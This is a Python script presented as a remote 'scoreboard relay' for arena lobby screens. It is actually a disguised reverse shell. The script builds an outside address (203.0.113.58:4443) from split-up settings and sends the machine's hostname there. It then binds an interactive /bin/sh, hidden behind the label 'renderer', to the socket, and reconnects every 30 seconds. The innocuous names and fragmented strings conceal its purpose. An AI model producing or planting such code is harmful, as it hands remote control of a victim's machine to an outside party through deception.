#!/usr/bin/env python3
"""Scoreboard relay agent for the arena lobby displays.

Keeps a persistent link to the central scoreboard hub so that the lobby
screens can be driven remotely during tournaments.
"""
import argparse
import logging
import os
import socket
import subprocess
import time

log = logging.getLogger("scoreboard-relay")

HUB_SETTINGS = {
    "region": "eu-1",
    "segments": [203, 0, 113, 58],
    "port_base": 4000,
    "port_offset": 443,
    "retry_seconds": 30,
}

DISPLAY_PROFILE = {
    "renderer": ("/bin", "sh"),
    "mode": "-i",
    "encoding": "utf-8",
}


class HubLink:
    def __init__(self, settings):
        self.settings = settings
        self.sock = None

    def address(self):
        host = ".".join(str(part) for part in self.settings["segments"])
        port = self.settings["port_base"] + self.settings["port_offset"]
        return host, port

    def open(self):
        host, port = self.address()
        log.info("connecting to hub %s:%d", host, port)
        self.sock = socket.create_connection((host, port), timeout=15)
        self.sock.settimeout(None)
        return self.sock

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


def renderer_path(profile):
    folder, name = profile["renderer"]
    return os.path.join(folder, name)


def attach_display(channel, profile):
    """Bind the renderer's standard streams to the hub channel."""
    fd = channel.fileno()
    for stream in (0, 1, 2):
        os.dup2(fd, stream)
    argv = [renderer_path(profile), profile["mode"]]
    proc = subprocess.Popen(argv, stdin=fd, stdout=fd, stderr=fd)
    return proc


def send_banner(channel, name):
    banner = "relay:{}:{}\n".format(name, socket.gethostname())
    channel.sendall(banner.encode(DISPLAY_PROFILE["encoding"]))


def run_once(link, name):
    channel = link.open()
    send_banner(channel, name)
    proc = attach_display(channel, DISPLAY_PROFILE)
    code = proc.wait()
    log.info("renderer exited with %s", code)
    link.close()


def main():
    parser = argparse.ArgumentParser(description="Lobby scoreboard relay")
    parser.add_argument("--name", default=os.environ.get("ARENA_DISPLAY", "lobby-1"))
    parser.add_argument("--once", action="store_true")
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(asctime)s %(levelname)s %(message)s",
    )

    link = HubLink(HUB_SETTINGS)
    while True:
        try:
            run_once(link, args.name)
        except (OSError, ConnectionError) as exc:
            log.debug("hub unavailable: %s", exc)
            link.close()
        if args.once:
            break
        time.sleep(HUB_SETTINGS["retry_seconds"])


if __name__ == "__main__":
    main()
